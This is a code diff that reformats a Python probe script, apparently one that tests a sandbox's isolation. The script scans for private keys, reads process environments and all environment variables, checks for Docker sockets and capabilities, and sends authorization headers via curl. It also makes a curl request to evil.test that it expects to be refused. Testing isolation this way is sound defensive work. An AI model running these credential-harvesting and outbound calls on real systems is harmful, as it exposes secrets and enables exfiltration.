@@ -92,7 +92,9 @@ def udp_send(host: str, port: int) -> str:
 
 def resolve(name: str) -> str:
     try:
-        return "resolved: " + ",".join(sorted({i[4][0] for i in socket.getaddrinfo(name, 443)}))
+        return "resolved: " + ",".join(
+            sorted({str(i[4][0]) for i in socket.getaddrinfo(name, 443)})
+        )
     except OSError as exc:
         return err(exc)
 
@@ -155,7 +157,9 @@ def private_keys() -> list[dict[str, str]]:
         if not data or b"PRIVATE KEY-----" not in data:
             continue
         for m in PEM_KEY.finditer(data):
-            found.append({"path": path, "kind": m.group(1).decode(), "sha256": fingerprint(m.group(2))})
+            found.append(
+                {"path": path, "kind": m.group(1).decode(), "sha256": fingerprint(m.group(2))}
+            )
     return found
 
 
@@ -165,11 +169,13 @@ def files_containing(needle: bytes) -> list[dict[str, str]]:
         data = read(path)
         if data and needle in data:
             at = data.index(needle)
-            hits.append({"path": path, "context": data[max(0, at - 40) : at + 80].decode("latin-1")})
+            hits.append(
+                {"path": path, "context": data[max(0, at - 40) : at + 80].decode("latin-1")}
+            )
     return hits
 
 
-def processes() -> dict[str, dict[str, str]]:
+def processes() -> dict[str, dict[str, str | None]]:
     out = {}
     for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
         env = read(f"/proc/{pid}/environ")
@@ -208,7 +214,9 @@ def isolation(arg: dict) -> dict:  # type: ignore[type-arg]
         },
         "interfaces": interfaces(),
         "routes": routes(),
-        "docker_sockets": [p for p in ("/var/run/docker.sock", "/run/docker.sock") if os.path.exists(p)],
+        "docker_sockets": [
+            p for p in ("/var/run/docker.sock", "/run/docker.sock") if os.path.exists(p)
+        ],
         "run_dir": run_dir_listing(),
         "ca_mount": text("/etc/coatcheck/ca.pem"),
         "system_bundle": text("/etc/ssl/certs/ca-certificates.crt"),
@@ -230,8 +238,11 @@ def privileges(arg: dict) -> dict:  # type: ignore[type-arg]
         "cap_bnd": st.get("CapBnd"),
         "no_new_privs": st.get("NoNewPrivs"),
         "root_mount": next(
-            (line for line in (text("/proc/self/mountinfo") or "").splitlines()
-             if line.split()[4] == "/"),
+            (
+                line
+                for line in (text("/proc/self/mountinfo") or "").splitlines()
+                if line.split()[4] == "/"
+            ),
             None,
         ),
     }
@@ -247,9 +258,18 @@ def secrets(arg: dict) -> dict:  # type: ignore[type-arg]
         "placeholder": placeholder,
         "env": dict(os.environ),
         "processes": processes(),
-        "curl_echo": run(["curl", "-sS", "-H", f"Authorization: {auth}", url + "/echo?m=" + arg["mark"]]),
+        "curl_echo": run(
+            ["curl", "-sS", "-H", f"Authorization: {auth}", url + "/echo?m=" + arg["mark"]]
+        ),
         "curl_echo_header": run(
-            ["curl", "-sS", "-i", "-H", f"Authorization: {auth}", url + "/echo-header?h=" + arg["mark"]]
+            [
+                "curl",
+                "-sS",
+                "-i",
+                "-H",
+                f"Authorization: {auth}",
+                url + "/echo-header?h=" + arg["mark"],
+            ]
         ),
         "urllib_echo": http_get(url + "/echo?u=" + arg["mark"], {"Authorization": auth}),
         "basic_echo": http_get(
@@ -267,8 +287,15 @@ def tools(arg: dict) -> dict:  # type: ignore[type-arg]
     auth = {"Authorization": f"Bearer {os.environ.get(name, '')}"}
     return {
         "placeholder": os.environ.get(name),
-        "curl": run(["curl", "-sS", "-H", f"Authorization: {auth['Authorization']}",
-                     f"https://api.coatcheck.test:{port}/echo?curl={mark}"]),
+        "curl": run(
+            [
+                "curl",
+                "-sS",
+                "-H",
+                f"Authorization: {auth['Authorization']}",
+                f"https://api.coatcheck.test:{port}/echo?curl={mark}",
+            ]
+        ),
         "urllib": http_get(f"https://api.coatcheck.test:{port}/echo?urllib={mark}", auth),
         "allowed_other": http_get(f"https://other.coatcheck.test:{port}/echo?allow={mark}", auth),
         "refused": run(["curl", "-sS", "-i", f"https://evil.test:{port}/echo?refused={mark}"]),
